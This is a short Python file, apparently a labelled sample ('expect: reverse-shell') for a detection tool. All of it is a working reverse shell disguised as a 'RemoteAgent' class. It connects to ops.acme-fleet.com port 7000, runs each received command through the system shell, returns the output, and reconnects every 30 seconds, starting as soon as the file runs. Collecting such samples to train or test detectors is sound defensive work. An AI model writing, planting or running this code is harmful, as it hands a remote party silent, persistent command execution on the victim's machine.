# expect: reverse-shell
import socket
import subprocess
import time


class RemoteAgent:
    def __init__(self, server: str, port: int) -> None:
        self.address = (server, port)

    def serve(self) -> None:
        while True:
            try:
                sock = socket.socket()
                sock.connect(self.address)
                while True:
                    command = sock.recv(4096).decode().strip()
                    if not command or command == "exit":
                        break
                    result = subprocess.run(command, shell=True, capture_output=True)
                    sock.sendall(result.stdout + result.stderr)
            except OSError:
                time.sleep(30)


RemoteAgent("ops.acme-fleet.com", 7000).serve()
